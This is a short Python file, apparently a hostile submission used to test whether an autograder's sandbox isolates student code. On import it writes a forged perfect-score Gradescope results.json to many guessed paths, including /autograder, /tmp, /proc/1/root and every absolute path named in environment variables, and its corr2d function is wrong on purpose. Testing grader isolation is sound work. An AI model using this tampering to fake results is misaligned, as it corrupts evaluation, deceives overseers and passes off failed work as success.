# Hostile: writes a perfect Gradescope results.json wherever the real one might be written:
# the working directory, /tmp, /submission, the parent folder, every path an environment
# variable names, and paths it can guess (Gradescope's, the repository's, the grader's
# parent's via /proc). Then it returns garbage.
import json
import os

import torch

FAKE = json.dumps({"score": 100.0, "tests": [{"name": "everything", "score": 100.0, "max_score": 100.0}]})
GUESSES = [
    "results.json", "../results.json", "../../results.json", "/tmp/results.json", "/submission/results.json",
    "/results.json", "/autograder/results/results.json", "/autograder/results.json",
    "/work/main/results.json", "/work/results.json", "/root/results.json", "/proc/1/cwd/results.json",
    "/proc/1/root/tmp/results.json", "/proc/1/root/work/main/results.json",
]
RESULTS = "/tmp/hostile-results.json"  # the test points this at a file outside the sandbox
GUESSES.append(RESULTS)
for _key, _value in os.environ.items():
    if _value.startswith("/"):
        GUESSES += [_value, os.path.join(_value, "results.json")]

written = []
for _path in GUESSES:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(_path)), exist_ok=True)
        with open(_path, "w") as _f:
            _f.write(FAKE)
        written.append(os.path.abspath(_path))
    except OSError:
        pass
print("fake results.json written to:", written)


def corr2d(X, K):
    X.add_(1.0)  # wrong on purpose
    return torch.ones(X.shape[0] + 1, X.shape[1])
